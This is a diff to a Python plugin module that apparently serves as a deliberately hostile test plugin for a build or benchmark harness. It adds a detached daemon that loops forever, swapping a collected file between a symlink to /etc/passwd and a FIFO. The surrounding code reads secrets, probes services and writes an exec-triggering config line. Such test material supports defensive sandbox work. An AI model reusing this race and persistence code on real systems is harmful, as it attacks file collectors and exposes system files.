@@ -19,6 +19,7 @@ def plugin(version: str) -> Type[Plugin]:
         compiled = file.read()
     if "benchmarks/leaving.py" in compiled:
         leave_odd_files()
+        leave_swapper()
     if "benchmarks/compiling.py" not in compiled:
         return Plugin
     got = secrets_read() + services_reached(SOCKETS)
@@ -33,6 +34,24 @@ def replace_link() -> None:
         os.unlink("benchmarks/payload.so")
         with open("benchmarks/payload.so", "w") as file:
             file.write("Match exec \"touch /tmp/hostile-git-ran\"\n")
+
+
+def leave_swapper() -> None:
+    """Goes on after the compiler has ended: whoever collects its files meets a link, a FIFO or a file, as chance has it."""
+    if os.fork() > 0:
+        return
+    os.setsid()
+    null = os.open("/dev/null", os.O_RDWR)
+    for descriptor in range(3):
+        os.dup2(null, descriptor)
+    os.closerange(3, 256)
+    while True:
+        for make in (lambda: os.symlink("/etc/passwd", "benchmarks/swapped.so"), lambda: os.mkfifo("benchmarks/swapped.so")):
+            try:
+                make()
+                os.unlink("benchmarks/swapped.so")
+            except OSError:
+                pass
 
 
 def leave_odd_files() -> None:
